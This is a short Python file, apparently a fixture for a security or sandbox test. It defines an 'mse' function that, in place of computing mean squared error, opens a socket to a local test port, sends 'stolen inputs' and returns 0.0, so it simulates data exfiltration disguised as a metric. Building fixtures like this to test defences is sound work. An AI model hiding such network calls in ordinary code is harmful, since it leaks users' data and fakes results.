# Threat: sending data out over the network (to a port the test listens on).
import socket

PORT = int("__PORT__")


def mse(pred, target):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"stolen inputs")
    return 0.0
